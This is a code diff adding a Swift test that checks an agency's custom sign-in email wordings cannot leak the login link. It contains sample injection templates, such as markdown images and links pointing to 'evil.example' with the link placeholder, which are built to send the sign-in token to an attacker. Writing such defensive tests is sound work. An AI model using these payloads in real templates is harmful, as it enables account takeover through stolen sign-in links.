@@ -62,6 +62,34 @@ import Testing
         #expect((400..<500).contains(try redeem(token).status))
     }
 
+    @Test func `an agency's own words lead a link that signs in nowhere else`() throws {
+        let desk = try desk(), owner = desk.agency.owner
+        let language = try owner.get("/v1/settings").ok().text("locale").prefix(2)
+        func word(_ key: String, _ text: String) throws -> Answer {
+            try owner.put("/v1/wordings/\(language)/\(key)", ["text": .string(text)])
+        }
+        for text in [
+            "{agency}\n![](https://evil.example/?{link})", "{agency} [here](https://evil.example/?<{link}>)",
+            "{agency} {link}", "{agency}\n<{link}> and <{ link }>",
+        ] {
+            #expect(
+                try word("account.sign_in", text).faults() == ["/text": "invalid_placeholder"], "\(text)")
+        }
+        try word("account.sign_in", "Come in to {agency}:\r\n\r\n<{link}>").ok()
+        try ask(desk.agency.email, desk.agency).ok(202)
+        _ = try desk.tokens(to: desk.agency.email)
+        func mailed() -> String { desk.mail.service.requests.map(\.text).joined() }
+        #expect(mailed().contains("Come in to"))
+        // What stands for the link before the mail leaves is no secret.
+        for key in ["mail.greeting", "mail.greeting_named"] {
+            let name = key == "mail.greeting" ? "" : "{name}"
+            try word(key, "\(name) ![](https://evil.example/?https://link.invalid/\u{301})").ok()
+        }
+        try ask(desk.agency.email, desk.agency).ok(202)
+        _ = try desk.tokens(to: desk.agency.email, 2)
+        #expect(!mailed().contains("evil.example"))
+    }
+
     @Test func `whether somebody has an account is not told`() throws {
         let desk = try desk()
         let (known, unknown) = (try ask(desk.agency.email), try ask("nobody@nowhere.example"))
